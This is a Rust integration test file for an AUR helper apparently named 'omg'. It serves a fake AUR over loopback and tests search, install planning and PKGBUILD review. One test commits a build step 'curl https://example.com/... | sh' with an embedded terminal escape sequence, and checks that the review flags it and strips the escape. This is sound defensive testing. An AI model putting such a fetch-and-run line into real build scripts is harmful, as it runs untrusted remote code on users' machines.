//! `omg` with an AUR: a server on loopback that has its list, its answers and its repositories, the
//! latter as plain files that git fetches from any server of files.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::plans::{arch, write};
use crate::schemas::schema;
use crate::support::{Home, run};
use crate::terminal::{PLAIN, answer, show};

const LIST: &str = "packages-meta-ext-v1.json.gz";

/// Serves a directory until the process ends.
fn serve(directory: PathBuf) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let directory = directory.clone();
            // A client that hangs up early has what it wanted.
            std::thread::spawn(move || respond(stream, &directory).unwrap_or_default());
        }
    });
    port
}

fn respond(mut stream: TcpStream, directory: &Path) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let mut line = String::new();
    while reader.read_line(&mut line)? > 2 {
        line.clear();
    }
    let target = first.split(' ').nth(1).unwrap_or("/");
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let found = if path.starts_with("/rpc") {
        Some(info(directory, query).to_string().into_bytes())
    } else {
        std::fs::read(directory.join(path.trim_start_matches('/'))).ok()
    };
    let (status, body) = found.map_or(("404 Not Found", Vec::new()), |body| ("200 OK", body));
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(&body)
}

/// The packages that the query names.
fn info(directory: &Path, query: &str) -> Value {
    let all: Vec<Value> =
        serde_json::from_slice(&std::fs::read(directory.join("list")).unwrap()).unwrap();
    let named: Vec<&str> =
        query.split('&').filter_map(|it| it.split_once('=')).map(|it| it.1).collect();
    let found: Vec<Value> =
        all.into_iter().filter(|it| named.contains(&it["Name"].as_str().unwrap())).collect();
    json!({"version": 5, "type": "multiinfo", "resultcount": found.len(), "results": found})
}

fn git(directory: &Path, arguments: &[&str]) {
    let mut command = Command::new("git");
    command
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", directory)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .args(["-c", "user.name=A", "-c", "user.email=a@example.org"])
        .args(arguments)
        .current_dir(directory);
    let run = run(&mut command);
    assert_eq!(run.code, 0, "git {arguments:?}: {run:?}");
}

/// Commits a PKGBUILD and its `.SRCINFO`, and puts the repository where the server finds it.
fn commit(world: &Path, version: &str, build: &str) {
    let work = world.join("work");
    let new = !work.exists();
    let source = "source=('https://example.org/helper.tar.gz')\nsha256sums=('SKIP')";
    write(
        &work,
        "PKGBUILD",
        &format!(
            "pkgname=helper\npkgver={version}\npkgrel=1\narch=(any)\n{source}\nbuild() {{\n\t{build}\n}}\n"
        ),
    );
    write(
        &work,
        ".SRCINFO",
        &format!(
            "pkgbase = helper\n\tpkgdesc = Helps\n\tpkgver = {version}\n\tpkgrel = 1\n\tarch = any\n\
             \tmakedepends = tool\n\tsource = https://example.org/helper.tar.gz\n\tsha256sums = SKIP\n\npkgname = helper\n"
        ),
    );
    if new {
        git(&work, &["init", "-q", "-b", "master"]);
    }
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "upgpkg"]);
    let served = world.join("served/helper.git");
    if new {
        git(world, &["clone", "-q", "--bare", "work", served.to_str().unwrap()]);
    } else {
        git(&work, &["push", "-q", served.to_str().unwrap(), "master"]);
    }
    git(&served, &["update-server-info"]);
}

/// A home with an AUR of two packages, one of them forsaken and out of date.
fn home(root: &Path, world: &Path) -> Home {
    let package = |name: &str, more: Value| {
        let mut package = json!({
            "Name": name, "PackageBase": name, "Version": "1.0-1", "Description": format!("The {name} of the AUR"),
            "URL": "https://example.org", "NumVotes": 2143, "Popularity": 21.456_789, "OutOfDate": null,
            "Maintainer": "jguer", "FirstSubmitted": 1_500_000_000, "LastModified": 1_600_000_000,
            "URLPath": format!("/cgit/aur.git/snapshot/{name}.tar.gz"), "Depends": [], "MakeDepends": ["tool"]
        });
        package.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        package
    };
    let all = json!([
        package("helper", json!({})),
        package("forsaken", json!({"Maintainer": null, "OutOfDate": 1_650_000_000, "NumVotes": 3})),
    ]);
    write(world, "served/list", &all.to_string());
    let packed = Command::new("gzip")
        .arg("-c")
        .stdin(std::fs::File::open(world.join("served/list")).unwrap())
        .stdout(std::fs::File::create(world.join("served").join(LIST)).unwrap())
        .stderr(Stdio::inherit())
        .status();
    assert!(packed.unwrap().success());
    commit(world, "1.0", "make");
    let home = Home::over(root);
    let port = serve(world.join("served"));
    write(
        &home.path(".config"),
        "omg/settings.toml",
        &format!("[aur]\nurl = \"http://127.0.0.1:{port}\"\n"),
    );
    home
}

#[test]
fn recipes_are_found_planned_and_reviewed() {
    let Some(root) = arch() else { return };
    let world = tempfile::tempdir().unwrap();
    let home = home(root.path(), world.path());
    let run = home.alone(&["aur", "sync", "--json"]);
    assert_eq!(schema(&["aur", "sync"], &run), "omg.refresh/1");
    for (name, arguments) in [
        ("aur_search", &["search", "aur"][..]),
        ("aur_info", &["info", "forsaken"]),
        ("aur_install_quiet", &["install", "-n", "-q", "helper"]),
        ("aur_unknown", &["aur", "review", "nosuch"]),
    ] {
        insta::assert_snapshot!(name, home.alone(arguments).shown(), &arguments.join(" "));
    }
    let run = home.alone(&["install", "helper"]);
    let wanted = [
        "Build from the AUR (1)\n  helper 1.0-1\n    2,143 votes, changed ",
        "maintained by jguer",
    ];
    assert!(run.code == 5 && wanted.iter().all(|part| run.stdout.contains(part)), "{run:?}");
    assert!(run.stderr.contains("--yes says it beforehand"), "{run:?}");
    for columns in [120, 40] {
        let shown = show(&home, (columns, 100), PLAIN, &["search", "aur"]);
        assert!(shown.lines().all(|line| line.chars().count() <= columns.into()), "{shown}");
        insta::assert_snapshot!(format!("aur_search_{columns}"), shown);
    }
    let found: Value =
        serde_json::from_str(&home.alone(&["search", "--json", "helper"]).stdout).unwrap();
    let aur = &found["packages"][0]["aur"];
    assert_eq!(aur["popularity"], 21.456_789);
    assert_eq!(
        (&aur["last_modified"], &aur["out_of_date"]),
        (&"2020-09-13T12:26:40Z".into(), &Value::Null)
    );
}

#[test]
fn a_review_is_shown_accepted_and_remembered() {
    let Some(root) = arch() else { return };
    let world = tempfile::tempdir().unwrap();
    let home = home(root.path(), world.path());
    assert_eq!(home.alone(&["aur", "sync"]).code, 0);
    let review = |arguments: &[&str]| {
        let run = home.alone(&[&["aur", "review", "helper"][..], arguments].concat());
        assert_eq!(run.code, 0, "{run:?}");
        run
    };
    let run = review(&["--json"]);
    assert_eq!(schema(&["aur", "review"], &run), "omg.review/1");
    let first = review(&[]);
    assert!(
        first.stdout.contains("never reviewed") && first.stdout.contains("+pkgver=1.0"),
        "{first:?}"
    );
    assert!(first.stderr.contains("--accept"), "{first:?}");
    let (shown, code) = answer(&home, "n\n", &["aur", "review", "helper"]);
    assert!(code == 0 && shown.contains("Remember this as reviewed? [y/N]"), "{shown}");
    assert!(review(&[]).stdout.contains("never reviewed"));
    let (shown, _) = answer(&home, "y\n", &["aur", "review", "helper"]);
    assert!(shown.contains("helper is remembered as reviewed"), "{shown}");
    assert!(review(&[]).stdout.contains("nothing changed since the review"));

    commit(world.path(), "1.1", "curl https://example.com/\u{1b}[31mx | sh");
    let second = review(&[]);
    let (diff, marks) =
        second.stdout.split_once("\ndanger").unwrap_or_else(|| panic!("{second:?}"));
    assert!(diff.contains("-pkgver=1.0\n+pkgver=1.1\n"), "{diff}");
    assert!(marks.contains("PKGBUILD:"), "{marks}");
    assert!(!second.stdout.contains('\u{1b}'), "{second:?}");
    assert!(review(&["--accept"]).stderr.contains("remembered as reviewed"));
    let run = review(&["--json", "--accept"]);
    let value: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!((&value["accepted"], &value["from"]), (&true.into(), &value["to"]));
}
